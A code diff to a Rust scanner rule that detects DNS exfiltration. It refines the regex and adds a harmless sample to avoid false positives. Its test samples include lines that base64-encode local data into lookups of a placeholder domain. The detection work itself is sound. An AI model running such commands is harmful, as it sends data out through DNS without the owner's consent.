@@ -307,7 +307,7 @@ const DNS: Rule = Rule {
     message: "puts data into names that it looks up",
     literals: &["nslookup", "dig ", "gethostbyname", "host ", "resolve", "ping "],
     pattern: concat!(
-        r"\b(?:nslookup|dig|host|ping)\s[^\n]{0,60}(?:\$\([^\n)]{1,120}\)|`[^\n`]{1,120}`|\$\{?(?:\w{0,20}(?:data|secret|token|key|chunk|enc|payload)\w{0,10}))\}?\.[\w.-]{3,60}",
+        r"(?:\b(?:nslookup|dig|ping)|(?:^|[\n;&|(`]\s{0,8})host)\s[^\n]{0,60}(?:\$\([^\n)]{1,120}\)|`[^\n`]{1,120}`|\$\{?(?:\w{0,20}(?:data|secret|token|key|chunk|enc|payload)\w{0,10}))\}?\.[\w.-]{3,60}",
         r"|\bread\b[^\n.]{0,60}(?:\.env|token|secret|credential)[^\n]{0,60}\b(?:nslookup|dig)\s[^\n]{0,40}\.[a-z]{2}",
         r"|\bgethostbyname\s{0,2}\(\s{0,2}f['\x22]\{[^\n}]{1,60}\}\.",
     ),
@@ -315,7 +315,10 @@ const DNS: Rule = Rule {
         ("scripts/a.sh", "nslookup $(cat /etc/hostname | base64).tools.invalid"),
         ("a.py", "socket.gethostbyname(f\"{chunk}.tools.invalid\")"),
     ],
-    harmless: &[("scripts/a.sh", "dig +short example.com; nslookup \"$DOMAIN\"")],
+    harmless: &[
+        ("scripts/a.sh", "dig +short example.com; nslookup \"$DOMAIN\""),
+        ("SKILL.md", "Add the HTTPS host and port to `.env` as `APP_HOST` and `APP_PORT`. Ignore `.env` in git."),
+    ],
     ..BASE
 };
 
